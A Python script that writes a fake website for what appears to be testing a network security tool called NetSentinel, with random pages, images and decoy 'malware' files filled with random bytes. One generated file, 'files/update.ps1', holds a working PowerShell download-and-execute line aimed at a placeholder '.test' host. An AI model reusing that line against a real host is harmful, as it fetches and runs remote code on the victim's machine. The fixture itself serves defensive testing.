"""Writes the web site's files: pages, images, archives and a harmless file that only looks like a program."""

import pathlib
import random
import sys
import zipfile

rng = random.Random(7)
root = pathlib.Path(sys.argv[1])
WORDS = "river signal harbour winter market teacher engine letter garden window number summer bridge paper coffee".split()


def page(title, paragraphs):
    text = "\n".join("<p>" + " ".join(rng.choices(WORDS, k=60)) + ".</p>" for _ in range(paragraphs))
    return f"<!doctype html><html><head><title>{title}</title></head><body><h1>{title}</h1>\n{text}\n</body></html>\n"


def put(name, content):
    path = root / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content if isinstance(content, bytes) else content.encode())


def archive(name):
    with zipfile.ZipFile(root / name, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("report.txt", page("report", 20))


put("index.html", page("Welcome", 8))
for n in range(1, 13):
    put(f"article/{n}.html", page(f"Article {n}", rng.randint(3, 30)))
for n in range(1, 9):
    put(f"img/{n}.png", b"\x89PNG\r\n\x1a\n" + rng.randbytes(rng.randint(800, 20000)))
    put(f"img/{n}.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + rng.randbytes(rng.randint(800, 30000)))
put("assets/app.js", "export const words = " + repr(rng.choices(WORDS, k=500)) + ";\n")
put("assets/site.css", "body { font: 1rem sans-serif }\n" * 40)
put("favicon.ico", b"\x00\x00\x01\x00" + rng.randbytes(1100))
put("robots.txt", "User-agent: *\nDisallow: /admin\n")
put("docs/handbook.pdf", b"%PDF-1.7\n% NetSentinel demo document\n" + rng.randbytes(24000) + b"\n%%EOF\n")
put("pool/main/tool_1.2-1_amd64.deb", b"!<arch>\ndebian-binary   " + rng.randbytes(30000))
put("api/v1/forecast.json", '{"city":"Exampleville","days":[{"high":19,"low":11},{"high":21,"low":12}]}\n')
put("payload/Loader.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34 NetSentinel demo, not a class " + rng.randbytes(600))
fake = b"MZ\x90\x00\x03\x00\x00\x00 NetSentinel demo file. This program cannot be run in DOS mode.\r\n" + rng.randbytes(18000)
put("files/invoice_2291.pdf.exe", fake)
put("files/setup.exe", fake[:9000])
put("files/update.ps1", "# NetSentinel demo: does nothing\nIEX (New-Object Net.WebClient).DownloadString('http://cdn-sync.update-check.test/b')\n")
put("files/run.sh", "#!/bin/sh\n# NetSentinel demo: does nothing\nexit 0\n")
put("download/.keep", "")
archive("download/report.zip")
